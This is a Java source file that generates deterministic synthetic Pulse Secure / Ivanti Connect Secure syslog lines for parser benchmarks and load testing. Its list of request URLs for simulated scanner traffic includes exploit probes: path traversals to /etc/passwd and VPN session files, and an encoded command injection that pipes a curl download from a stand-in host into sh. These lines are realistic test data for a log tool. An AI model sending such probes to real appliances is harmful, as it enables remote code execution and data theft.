package io.gatewatch.cli.loadgen;

import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDateTime;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;

/**
 * A deterministic, realistic corpus of Pulse Secure / Ivanti Connect Secure log lines for the
 * benchmarks and their tests, and for {@code gatewatch loadgen}, which sends its tagged bodies
 * ({@link #nextTaggedBody}) to a running server. It lives with the load generator so that the
 * command line can use it and the {@code bench} module, which sits on top, can too.
 *
 * <p>Every line comes from one {@link Random} with a fixed seed, so two corpora of the same
 * kind and size are byte-identical. The shapes follow published lines (Sekoia's intake tests,
 * u-siem's lab logs, Elastic's pipeline tests, Datadog's JSON samples) and the message templates
 * of the PCS/ICS catalog: 22 message families, in the three body formats (WELF, Standard, JSON),
 * with or without a syslog header (RFC 3164, RFC 5424, a receiving server's prefix, RFC 6587
 * octet counting).
 *
 * <p>Write a mixed corpus file (one line per event) with:
 * <pre>{@code
 * java -cp bench/target/benchmarks.jar io.gatewatch.cli.loadgen.Corpus 1000000 /tmp/gatewatch-mixed-1m.log
 * }</pre>
 */
public final class Corpus {
    /** The seed of every corpus this class hands out. */
    public static final long SEED = 42;

    /** The body format of a generated line. */
    public enum Format { WELF, STANDARD, JSON }

    /** One generated line: its body format, its message code and its bytes (no line break). */
    public record Line(Format format, String code, byte[] bytes) {
        public String text() {
            return new String(bytes, StandardCharsets.UTF_8);
        }
    }

    /** {@code n} WELF lines (about half of them behind a syslog header). */
    public static List<byte[]> welf(int n) {
        Corpus c = new Corpus(SEED);
        List<byte[]> out = new ArrayList<>(n);
        for (int i = 0; i < n; i++) {
            out.add(c.nextWelf().bytes());
        }
        return out;
    }

    /** {@code n} lines: about 60% WELF, 25% Standard, 15% JSON, with and without syslog headers. */
    public static List<byte[]> mixed(int n) {
        Corpus c = new Corpus(SEED);
        List<byte[]> out = new ArrayList<>(n);
        for (int i = 0; i < n; i++) {
            out.add(c.nextMixed().bytes());
        }
        return out;
    }

    /** The first {@code n} WELF lines of the mixed stream (what a WELF-only parser can read of it). */
    public static List<byte[]> welfPartOfMixed(int n) {
        Corpus c = new Corpus(SEED);
        List<byte[]> out = new ArrayList<>(n);
        while (out.size() < n) {
            Line l = c.nextMixed();
            if (l.format() == Format.WELF) {
                out.add(l.bytes());
            }
        }
        return out;
    }

    /** Writes {@code N} lines of the mixed corpus to {@code FILE}: {@code Corpus N FILE}. */
    public static void main(String[] args) throws IOException {
        if (args.length != 2) {
            System.err.println("usage: Corpus LINES FILE   (writes LINES lines of the mixed corpus, seed " + SEED + ")");
            System.exit(2);
        }
        long n = Long.parseLong(args[0].replace("_", ""));
        Path file = Path.of(args[1]);
        Corpus c = new Corpus(SEED);
        long bytes = 0;
        try (OutputStream out = new BufferedOutputStream(Files.newOutputStream(file), 1 << 16)) {
            for (long i = 0; i < n; i++) {
                byte[] b = c.nextMixed().bytes();
                out.write(b);
                out.write('\n');
                bytes += b.length + 1;
            }
        }
        System.err.printf(Locale.ROOT, "wrote %d lines (%d bytes) to %s%n", n, bytes, file);
    }

    // ---------------------------------------------------------------------------------------------

    private static final DateTimeFormatter WELF_TIME = DateTimeFormatter.ofPattern("yyyy-MM-dd HH:mm:ss", Locale.ROOT);
    private static final DateTimeFormatter ISO_TIME = DateTimeFormatter.ofPattern("yyyy-MM-dd'T'HH:mm:ssxxx", Locale.ROOT);
    private static final DateTimeFormatter BSD_TIME = DateTimeFormatter.ofPattern("MMM ppd HH:mm:ss", Locale.ROOT);
    private static final DateTimeFormatter LAST_ACCESS = DateTimeFormatter.ofPattern("HH:mm:ss yyyy/MM/dd", Locale.ROOT);

    /** An appliance: node name, interface IP (the WELF {@code fw}), UTC offset, syslog facility. */
    private record Appliance(String node, String fw, String sender, ZoneOffset offset, int facility, String ivs) {}

    private static final Appliance[] APPLIANCES = {
        new Appliance("pcs-node1", "10.5.2.3", "10.5.2.3", ZoneOffset.ofHours(2), 16, "Default Network"),
        new Appliance("CB2XXPCS02", "172.16.128.22", "172.16.128.22", ZoneOffset.ofHours(1), 16, "Root"),
        new Appliance("ive", "10.0.0.9", "10.0.0.111", ZoneOffset.ofHours(-7), 21, "Default Network"),
        new Appliance("ssl-vpn01", "192.168.100.4", "ssl-vpn01.corp.example", ZoneOffset.UTC, 16, "Default Network"),
    };

    private static final String[] FIRST = {"alice", "bob", "carol", "david", "emma", "farid", "grace", "hugo",
        "ines", "jean", "karim", "lea", "marc", "nina", "omar", "paul", "quentin", "rose", "sami", "tom"};
    private static final String[] LAST = {"martin", "smith", "dupont", "nguyen", "garcia", "muller", "rossi",
        "kowalski", "bernard", "johnson", "leroy", "schmidt"};
    private static final String[] REALMS = {"Users", "SEKOIA_User", "Realm_VPN", "AD-Employees", "MembersSAML",
        "Contractors"};
    private static final String[] ROLES = {"Users", "VDI-Pulse_User_Role", "Role_VPN-Full", "REALM_ROLES",
        "Pulse Secure Client, VPN Static Pool 1", "General Web Bookmarks, Group Drives, Pulse Secure Client",
        "kit-common, kit-desktops, kit-automation", ""};
    private static final String[] AUTH_SERVERS = {"System Local", "AD DOMAIN", "LDAP-External", "RADIUS-MFA", "ToTP"};
    private static final String[][] LOGIN_FAILED_SERVERS = {
        {"System Local", "Local Authentication"}, {"RSA", "ACE Server"}, {"AD DOMAIN", "Active Directory"},
        {"RADIUS-MFA", "Radius Server"}};
    private static final String[] LOGIN_FAILED_REASONS = {"Failed", "Wrong Password", "Account disabled",
        "Invalid username or password"};

    /** Browser and Pulse client user agents, as they appear in {@code agent=} and AUT31504/AUT24414. */
    private static final String[] USER_AGENTS = {
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.67",
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:87.0) Gecko/20100101 Firefox/87.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    };
    private static final String[] PULSE_AGENTS = {
        "Pulse-Secure/22.8.1.31437 (Windows 10) Pulse/22.8.1.31437",
        "Pulse-Secure/9.1.13.11723 (Windows 10) Pulse/9.1.13.11723",
        "Pulse-Secure/22.7.2.3191 (Windows 11) Pulse/22.7.2.3191",
        "Pulse-Secure/22.6.1.18743 (Macintosh; Intel Mac OS X 10_15_7) Pulse/22.6.1.18743",
    };
    /** What scanners and browsers request before signing in, including exploit probes. */
    private static final String[] URLS = {
        "/dana-na/auth/url_default/welcome.cgi",
        "/dana-na/auth/welcome.cgi?p=forced-off",
        "/dana-na/auth/url_o2d6zvh39ac6C92s/welcome.cgi?p=forced-off",
        "/dana/js?prot=1&svc=4",
        "/dana-na/nc/nc_gina_ver.txt",
        "/dana-cached/hc/HostCheckerInstaller.osx",
        "/dana-na/auth/url_admin/welcome.cgi",
        "/cgi/pal?tm=26&key=1234567890",
        "/favicon.ico",
        "/",
        "/robots.txt",
        "/.env",
        "/api/v1/totp/user-backup-code/../../system/system-information",
        "/api/v1/totp/user-backup-code/../../license/keys-status/%3bcurl%20http%3a%2f%2f198.51.100.7%2fx%7csh%3b",
        "/api/v1/cav/client/status/../../admin/options",
        "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/",
        "/dana-na/auth/saml-sso.cgi",
        "/dana-ws/saml20.ws",
        "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
        "/mifs/.;/services/LogService",
    };
    private static final String[] SSL_REASONS = {"sslv3 alert bad certificate", "http request", "no shared cipher",
        "unsupported protocol", "wrong version number", "tlsv1 alert unknown ca"};
    private static final String[] HC_POLICIES = {"Sekoia_Host Checker", "HC_Basic_Windows", "Antivirus",
        "Firewall-Check"};
    private static final String[] HC_REASONS = {
        "Rule-Antivirus_Check:Le logiciel antivirus indiqué dans les exigences de sécurité n'est pas installé.",
        "Rule-HC_Rules_Firewall:Windows Firewall is not enabled.",
        "Rule-OS_Check:Operating system version is lower than the required version.",
    };
    private static final String[] LEASE_OBJECTS = {"Virtual CPUs", "Concurrent Users", "ICS Concurrent Users"};
    private static final String[] LOG_NAMES = {"event", "user access", "admin access"};
    private static final String[] WEB_HOSTS = {"intranet.corp.example", "portal2.services.corp.example",
        "wiki.corp.example", "10.20.1.15"};
    private static final String[] WEB_PATHS = {"/sss/sessionPing?unique=0.10846163950738053", "/index.html",
        "/cloud/services/firewallRule", "/owa/auth/logon.aspx?replaceCurrent=1", "/api/status"};
    private static final String[] WEB_METHODS = {"GET", "GET", "GET", "POST"};
    private static final String[] HOSTNAMES = {"DESKTOP-4F2K9QX", "LAPTOP-ALICE", "MY-PC", "Desktop", "WKS-0231"};

    /** Message families and their weights (how often each shows up on a busy gateway). */
    private static final String[] FAMILIES = {
        "AUT24326", "AUT24327", "AUT23457", "AUT31504", "AUT24414", "AUT22673", "AUT22886", "NWC23464",
        "NWC23465", "NWC30477", "AUT31829", "AUT24803", "AUT24804", "AUT31556", "AUT20920", "AUT24604",
        "SYS20704", "SYS31437", "LIC30499", "SYS32100", "ADM20716", "WEB20174"};
    private static final int[] WEIGHTS = {
        10, 4, 4, 6, 6, 6, 2, 6,
        6, 3, 4, 5, 2, 8, 5, 4,
        1, 2, 2, 2, 1, 8};
    private static final int TOTAL_WEIGHT;

    static {
        int t = 0;
        for (int w : WEIGHTS) {
            t += w;
        }
        TOTAL_WEIGHT = t;
    }

    /** The WELF key layouts seen in published lines. */
    private enum Layout {
        /** 9.1R10 user access: {@code … proto=auth src= dst= dstname= type=vpn op= arg="" … agent="" duration= msg=}. */
        USER_ACCESS,
        /** 22.x user access: the same with {@code sessionID=""} after roles. */
        USER_ACCESS_SID,
        /** 2023+ events/admin: {@code … type=mgmt proto= src= dst= dstname= sent= rcvd= msg=}. */
        EVENTS,
        /** 9.1R10 admin access: {@code … roles="…" type=mgmt msg=} with no proto/src/dst. */
        ADMIN
    }

    /** One event before rendering. */
    private static final class Event {
        String code;
        String text;
        /** raw_message of the JSON format, when it differs from {@code text}. */
        String jsonText;
        Appliance app;
        LocalDateTime time;
        int pri = 6;
        String user;
        String realm = "";
        String roles = "";
        String proto = "auth";
        String src;
        String agent = "";
        String sid = "";
        String shortSid = "";
        Layout layout;
        String type = "vpn";
        boolean system;
        /** A {@code name=value} the line must carry (see {@link #nextTaggedBody}), or null. */
        String tagName;
        String tagValue;
    }

    private final Random rnd;
    private LocalDateTime clock = LocalDateTime.of(2025, 3, 10, 7, 58, 12);

    public Corpus(long seed) {
        this.rnd = new Random(seed);
    }

    /** The next WELF line. */
    public Line nextWelf() {
        Event e = nextEvent();
        return new Line(Format.WELF, e.code, bytes(welfHeader(e) + welf(e)));
    }

    /** The next line of the mixed stream. */
    public Line nextMixed() {
        int p = rnd.nextInt(100);
        Event e = nextEvent();
        if (p < 60) {
            return new Line(Format.WELF, e.code, bytes(welfHeader(e) + welf(e)));
        }
        if (p < 85) {
            return new Line(Format.STANDARD, e.code, bytes(standardHeader(e) + standard(e)));
        }
        return new Line(Format.JSON, e.code, json(e));
    }

    /**
     * The next event of a mixed stream as a bare body, with no syslog header and no framing, for a
     * sender that puts its own header in front; in the shares of {@link #nextMixed}. The body
     * carries {@code tagName=tagValue} where its format has room for one more value, so that it
     * parses as it would without: as a key of its own at the end of a WELF line
     * ({@code … msg="…" name=value}), as a member of a JSON object ({@code "name":"value"}), and as
     * the session id of a Standard line ({@code user(realm)[roles][name=value]}). The load
     * generator tags each event with its sequence number this way. {@code tagValue} must need no
     * quoting (letters, digits, {@code -_.}).
     */
    public Line nextTaggedBody(String tagName, String tagValue) {
        int p = rnd.nextInt(100);
        Event e = nextEvent();
        e.tagName = tagName;
        e.tagValue = tagValue;
        if (p < 60) {
            return new Line(Format.WELF, e.code, bytes(welf(e)));
        }
        if (p < 85) {
            return new Line(Format.STANDARD, e.code, bytes(standard(e)));
        }
        return new Line(Format.JSON, e.code, bytes(jsonObject(e)));
    }

    // ---- events -------------------------------------------------------------------------------

    private Event nextEvent() {
        clock = clock.plusNanos(rnd.nextInt(2500) * 1_000_000L);
        int w = rnd.nextInt(TOTAL_WEIGHT);
        int f = 0;
        while (w >= WEIGHTS[f]) {
            w -= WEIGHTS[f];
            f++;
        }
        Event e = new Event();
        e.code = FAMILIES[f];
        e.app = APPLIANCES[rnd.nextInt(APPLIANCES.length)];
        e.time = clock.withNano(0);
        e.user = user();
        e.realm = pick(REALMS);
        e.roles = pick(ROLES);
        e.src = clientIp();
        e.layout = rnd.nextBoolean() ? Layout.USER_ACCESS : Layout.USER_ACCESS_SID;
        e.sid = "sid" + hex(48);
        e.shortSid = hex(10);
        String ip = e.src;
        switch (e.code) {
            case "AUT24326" -> {
                e.roles = "";
                e.text = (rnd.nextInt(5) == 0 ? "Secondary" : "Primary") + " authentication successful for "
                        + e.user + "/" + pick(AUTH_SERVERS) + " from " + ip;
            }
            case "AUT24327" -> {
                e.roles = "";
                e.text = "Primary authentication failed for " + e.user + "/" + pick(AUTH_SERVERS) + " from " + ip;
            }
            case "AUT23457" -> {
                e.roles = "";
                if (rnd.nextInt(4) == 0) {
                    e.text = "Login failed.  Reason: " + pick(LOGIN_FAILED_REASONS);
                } else {
                    String[] s = LOGIN_FAILED_SERVERS[rnd.nextInt(LOGIN_FAILED_SERVERS.length)];
                    e.text = "Login failed using auth server " + s[0] + " (" + s[1] + ").  Reason: "
                            + pick(LOGIN_FAILED_REASONS);
                }
            }
            case "AUT31504" -> {
                e.agent = pick(USER_AGENTS);
                e.text = "Login succeeded for " + e.user + "/" + e.realm + " (session:" + hex(8) + ") from " + ip
                        + " with " + e.agent + ".";
            }
            case "AUT24414" -> {
                e.agent = pick(PULSE_AGENTS);
                e.text = "Agent login succeeded for " + e.user + "/" + e.realm + " (session:" + e.sid + ") from "
                        + ip + " with " + e.agent + ".";
            }
            case "AUT22673" -> e.text = "Logout from " + ip + " (session:" + (rnd.nextBoolean() ? e.sid : hex(8)) + ")";
            case "AUT22886" -> e.text = "Session timed out for " + e.user + "/" + e.realm + " (session:" + e.sid
                    + ") due to inactivity (last access at " + LAST_ACCESS.format(e.time.minusMinutes(31 + rnd.nextInt(60)))
                    + "). Idle session identified during routine system scan.";
            case "NWC23464" -> {
                e.proto = "";
                e.agent = pick(PULSE_AGENTS);
                e.text = "VPN Tunneling: Session started for user (session: " + e.sid + ") with IPv4 address "
                        + tunnelIp() + ", hostname " + pick(HOSTNAMES);
            }
            case "NWC23465" -> {
                e.proto = "";
                e.text = "VPN Tunneling: Session ended for user (session: " + e.sid + ") with IPv4 address " + tunnelIp();
            }
            case "NWC30477" -> {
                e.proto = "";
                e.text = "VPN Tunneling: User with IP " + tunnelIp() + " connected with "
                        + (rnd.nextInt(3) == 0 ? "SSL" : "ESP") + " transport mode.";
            }
            case "AUT31829" -> e.text = "Session:[" + e.shortSid + "] for user:[" + e.user + "] with roles:["
                    + (e.roles.isEmpty() ? "Users" : e.roles) + "] deleted. Bandwidth consumed [" + rnd.nextInt(50_000_000)
                    + "] bytes";
            case "AUT24803", "AUT24804" -> {
                String host = rnd.nextInt(5) == 0 ? pick(HOSTNAMES) : ip;
                String text = "Host Checker policy '" + pick(HC_POLICIES) + "' "
                        + (e.code.equals("AUT24803") ? "passed" : "failed") + " on host '" + host + "' address '"
                        + mac() + "' for user '" + e.user + "'";
                e.text = e.code.equals("AUT24803") ? text + "." : text + " reason '" + pick(HC_REASONS) + "'.";
            }
            case "AUT31556" -> {
                system(e, Layout.USER_ACCESS);
                e.proto = "";
                ip = scannerIp();
                e.src = ip;
                e.text = "Unauthenticated request url " + pick(URLS) + " came from IP " + ip + ".";
            }
            case "AUT20920" -> {
                system(e, Layout.EVENTS);
                e.type = "mgmt";
                e.proto = "auth";
                ip = scannerIp();
                e.src = ip;
                e.text = "Connection from IP " + ip + " not authenticated yet (URL=" + pick(URLS) + ")";
            }
            case "AUT24604" -> {
                system(e, Layout.EVENTS);
                e.pri = 4;
                ip = scannerIp();
                e.src = ip;
                e.text = "SSL negotiation failed while client at source IP '" + ip + "' was trying to connect to '"
                        + e.app.fw + "'. Reason: '" + pick(SSL_REASONS) + "'";
            }
            case "SYS20704" -> {
                system(e, Layout.EVENTS);
                e.pri = rnd.nextBoolean() ? 0 : 4;
                e.text = "Sending iveLogNearlyFull [ logFullPercent='" + (85 + rnd.nextInt(15)) + "' logName='"
                        + pick(LOG_NAMES) + "' ] SNMP trap to 10.30.0." + (1 + rnd.nextInt(20)) + ":162";
            }
            case "SYS31437" -> {
                system(e, Layout.EVENTS);
                e.text = "Successful syslog connection to peer: '10.30.0." + (1 + rnd.nextInt(20)) + "'";
            }
            case "LIC30499" -> {
                system(e, Layout.EVENTS);
                int max = 2 + rnd.nextInt(16);
                e.text = "Leased " + rnd.nextInt(max) + " units of '" + pick(LEASE_OBJECTS) + "' from 10.40.0."
                        + (1 + rnd.nextInt(5)) + " - reserved: " + rnd.nextInt(max) + " maximum: " + max
                        + " incremental quantum: " + (1 + rnd.nextInt(4));
            }
            case "SYS32100" -> {
                system(e, Layout.EVENTS);
                e.text = "Integrity Scan Completed: Integrity Scan Results : Matched Files " + (18000 + rnd.nextInt(4000))
                        + ", Newly Detected Files " + (rnd.nextInt(20) == 0 ? 1 + rnd.nextInt(3) : 0)
                        + ", Mismatched Files " + (rnd.nextInt(30) == 0 ? 1 : 0);
            }
            case "ADM20716" -> {
                e.layout = Layout.ADMIN;
                e.type = "mgmt";
                e.user = "pcsadmin";
                e.realm = "Admin Users";
                e.roles = ".Administrators";
                String u = FIRST[rnd.nextInt(FIRST.length)] + "." + LAST[rnd.nextInt(LAST.length)];
                e.text = "User Accounts modified. Added User " + u + " with username " + u
                        + " to authentication server " + pick(AUTH_SERVERS) + ".";
            }
            case "WEB20174" -> {
                e.proto = "";
                e.agent = pick(USER_AGENTS);
                String method = pick(WEB_METHODS);
                String host = pick(WEB_HOSTS);
                String path = pick(WEB_PATHS);
                int status = rnd.nextInt(10) == 0 ? 404 : 200;
                int sent = 40 + rnd.nextInt(2000);
                int received = rnd.nextInt(60000);
                int secs = rnd.nextInt(12);
                e.text = "WebRequest completed, " + method + " to https://" + host + ":443/" + path + " from " + ip
                        + " result=" + status + " sent=" + sent + " received=" + received + " in " + secs + " seconds";
                e.jsonText = "WebRequest completed, " + method + " to [https://" + host + ":443/" + path + "] from ["
                        + ip + "] result=[" + status + "] sent=[" + sent + "] received=[" + received + "] in [" + secs
                        + "] seconds";
            }
            default -> throw new IllegalStateException(e.code);
        }
        return e;
    }

    private void system(Event e, Layout layout) {
        e.system = true;
        e.layout = layout;
        e.user = "System";
        e.realm = "";
        e.roles = "";
        e.proto = "";
        e.type = layout == Layout.EVENTS ? "mgmt" : "vpn";
        e.src = rnd.nextBoolean() ? "127.0.0.1" : e.app.fw;
        e.agent = "";
    }

    private String user() {
        String f = FIRST[rnd.nextInt(FIRST.length)];
        String l = LAST[rnd.nextInt(LAST.length)];
        return switch (rnd.nextInt(6)) {
            case 0 -> f.charAt(0) + l;
            case 1 -> f + "." + l;
            case 2 -> "CORP\\" + f.charAt(0) + l;
            case 3 -> f + "." + l + "@corp.com";
            case 4 -> f.charAt(0) + "." + l;
            default -> f + l.charAt(0) + (10 + rnd.nextInt(90));
        };
    }

    /** A client address: public IPv4 mostly, some IPv6. */
    private String clientIp() {
        if (rnd.nextInt(12) == 0) {
            return String.format(Locale.ROOT, "2001:db8:%x:%x::%x", rnd.nextInt(0xffff), rnd.nextInt(0xffff),
                    1 + rnd.nextInt(0xfff));
        }
        return publicIpv4();
    }

    /** Scanners come from a smaller set of addresses, as in real logs. */
    private String scannerIp() {
        if (rnd.nextInt(10) == 0) {
            return "2a01:4f8:" + Integer.toHexString(rnd.nextInt(0xffff)) + "::" + Integer.toHexString(1 + rnd.nextInt(255));
        }
        int k = rnd.nextInt(40);
        return (45 + k % 7) + "." + (79 + k) + "." + (k * 7 % 250 + 1) + "." + (k * 13 % 250 + 2);
    }

    private String publicIpv4() {
        int a;
        do {
            a = 1 + rnd.nextInt(223);
        } while (a == 10 || a == 127 || a == 172 || a == 192);
        return a + "." + rnd.nextInt(256) + "." + rnd.nextInt(256) + "." + (1 + rnd.nextInt(254));
    }

    private String tunnelIp() {
        return "172.22." + rnd.nextInt(64) + "." + (1 + rnd.nextInt(254));
    }

    private String mac() {
        StringBuilder sb = new StringBuilder(17);
        for (int i = 0; i < 6; i++) {
            if (i > 0) {
                sb.append('-');
            }
            int b = rnd.nextInt(256);
            sb.append(Character.forDigit(b >> 4, 16)).append(Character.forDigit(b & 15, 16));
        }
        return sb.toString();
    }

    private String hex(int n) {
        StringBuilder sb = new StringBuilder(n);
        for (int i = 0; i < n; i++) {
            sb.append(Character.forDigit(rnd.nextInt(16), 16));
        }
        return sb.toString();
    }

    private String pick(String[] a) {
        return a[rnd.nextInt(a.length)];
    }

    // ---- rendering ----------------------------------------------------------------------------

    private String welf(Event e) {
        StringBuilder sb = new StringBuilder(512);
        sb.append("id=firewall time=\"").append(WELF_TIME.format(e.time)).append("\" pri=").append(e.pri)
                .append(" fw=").append(e.app.fw).append(" vpn=").append(e.app.node);
        if (e.layout != Layout.EVENTS || rnd.nextBoolean()) {
            sb.append(" ivs=").append(e.system ? (rnd.nextBoolean() ? "Root" : e.app.ivs) : e.app.ivs);
        }
        sb.append(" user=").append(e.user).append(" realm=\"").append(e.realm).append("\" roles=\"").append(e.roles)
                .append('"');
        switch (e.layout) {
            case USER_ACCESS, USER_ACCESS_SID -> {
                if (e.layout == Layout.USER_ACCESS_SID) {
                    sb.append(" sessionID=\"").append(e.system ? "" : e.shortSid).append('"');
                }
                sb.append(" proto=").append(e.proto).append(" src=").append(e.src)
                        .append(" dst= dstname= type=").append(e.type).append(" op= arg=\"\" result= sent= rcvd= agent=\"")
                        .append(e.agent).append("\" duration=");
            }
            case EVENTS -> sb.append(" type=").append(e.type).append(" proto=").append(e.proto).append(" src=")
                    .append(e.src).append(" dst= dstname= sent= rcvd=");
            case ADMIN -> sb.append(" type=mgmt");
        }
        sb.append(" msg=\"").append(e.code).append(": ").append(e.text).append('"');
        if (e.tagName != null) {
            sb.append(' ').append(e.tagName).append('=').append(e.tagValue);
        }
        return sb.toString();
    }

    private String standard(Event e) {
        StringBuilder sb = new StringBuilder(400);
        sb.append(WELF_TIME.format(e.time)).append(" - ").append(e.app.node).append(" - [")
                .append(e.system ? "127.0.0.1" : e.src).append("] ");
        boolean newer = rnd.nextBoolean();
        if (newer) {
            sb.append(e.system && rnd.nextBoolean() ? "Root" : e.app.ivs).append("::");
        }
        sb.append(e.user).append('(').append(e.realm).append(")[").append(e.roles).append(']');
        if (e.tagName != null) {
            sb.append('[').append(e.tagName).append('=').append(e.tagValue).append(']');
        } else if (newer) {
            sb.append('[').append(e.system ? "" : e.shortSid).append(']');
        }
        sb.append(" - ").append(e.text);
        return sb.toString();
    }

    /** The ICS 22.x JSON body, behind an RFC 5424 header, with RFC 6587 octet counting four times in five. */
    private byte[] json(Event e) {
        String msg = "<" + (e.app.facility * 8 + severity(e)) + ">1 " + ISO_TIME.format(e.time.atOffset(e.app.offset))
                + " " + e.app.sender + " PulseSecure: - - - " + jsonObject(e);
        byte[] body = bytes(msg);
        if (rnd.nextInt(5) == 0) {
            return body; // UDP: no framing
        }
        byte[] count = bytes(body.length + " ");
        byte[] out = new byte[count.length + body.length];
        System.arraycopy(count, 0, out, 0, count.length);
        System.arraycopy(body, 0, out, count.length, body.length);
        return out;
    }

    private String jsonObject(Event e) {
        long epoch = e.time.toEpochSecond(e.app.offset);
        StringBuilder sb = new StringBuilder(900);
        sb.append("{\"message_id\":\"").append(e.code).append("\",\"date\":\"").append(e.time.toLocalDate())
                .append("\",\"timestamp\":\"").append(epoch).append("\",\"us_timestamp\":\"").append(epoch).append('.')
                .append(100000 + rnd.nextInt(900000)).append("\",\"opaque_id\":\"").append(rnd.nextInt(5000))
                .append("\",\"gateway_id\":\"\",\"gateway_name\":\"\",\"unique_id\":\"uid_").append(hex(8))
                .append("\",\"sev_num\":\"").append(e.pri == 6 ? 1 : 5).append("\",\"sev_string\":\"")
                .append(e.pri == 6 ? "info" : "minor").append("\",\"source_ip\":\"").append(e.system ? "127.0.0.1" : e.src)
                .append("\", \"macaddr\":\"\", \"user\":\"");
        jsonEscape(e.user, sb);
        sb.append("\",\"realm_name\":\"").append(e.realm).append("\",\"roles\":\"").append(e.roles)
                .append("\",\"session_id\":\"").append(e.system ? "" : e.shortSid).append("\",\"useragent\":\"")
                .append(e.agent).append("\",\"device_id\":\"\",\"browser_id\":\"")
                .append(e.system ? "" : hex(32)).append("\",\"tenant_id\":\"\",\"cert_hash\":\"\",\"additional_details\":[],\"raw_message\":\"");
        jsonEscape(e.jsonText != null ? e.jsonText : e.text, sb);
        sb.append('"');
        if (e.tagName != null) {
            sb.append(",\"").append(e.tagName).append("\":\"").append(e.tagValue).append('"');
        }
        sb.append('}');
        return sb.toString();
    }

    /** WELF lines: no header (as Sekoia's tests), RFC 3164, RFC 5424, or a receiving server's prefix. */
    private String welfHeader(Event e) {
        int p = rnd.nextInt(100);
        if (p < 40) {
            return "";
        }
        if (p < 65) {
            return "<" + pri(e) + ">" + BSD_TIME.format(e.time) + " " + e.app.node + " PulseSecure: ";
        }
        if (p < 85) {
            return "<" + pri(e) + ">1 " + ISO_TIME.format(e.time.atOffset(e.app.offset)) + " " + e.app.sender
                    + " PulseSecure: - - - ";
        }
        return ISO_TIME.format(e.time.atOffset(e.app.offset)) + " " + e.app.sender + " PulseSecure: ";
    }

    /** Standard lines: RFC 5424 from the appliance, a relay-prepended RFC 3164 header, or none (UI export). */
    private String standardHeader(Event e) {
        int p = rnd.nextInt(100);
        if (p < 20) {
            return "";
        }
        String rfc5424 = "1 " + ISO_TIME.format(e.time.atOffset(e.app.offset)) + " " + e.app.sender
                + " PulseSecure: - - - ";
        if (p < 70) {
            return "<" + pri(e) + ">" + rfc5424;
        }
        return BSD_TIME.format(e.time) + " " + e.app.node + " " + rfc5424;
    }

    private int pri(Event e) {
        return e.app.facility * 8 + severity(e);
    }

    private static int severity(Event e) {
        return switch (e.pri) {
            case 0 -> 2;
            case 4 -> 4;
            default -> 6;
        };
    }

    private static void jsonEscape(String s, StringBuilder sb) {
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            if (c == '"' || c == '\\') {
                sb.append('\\');
            }
            sb.append(c);
        }
    }

    private static byte[] bytes(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }
}
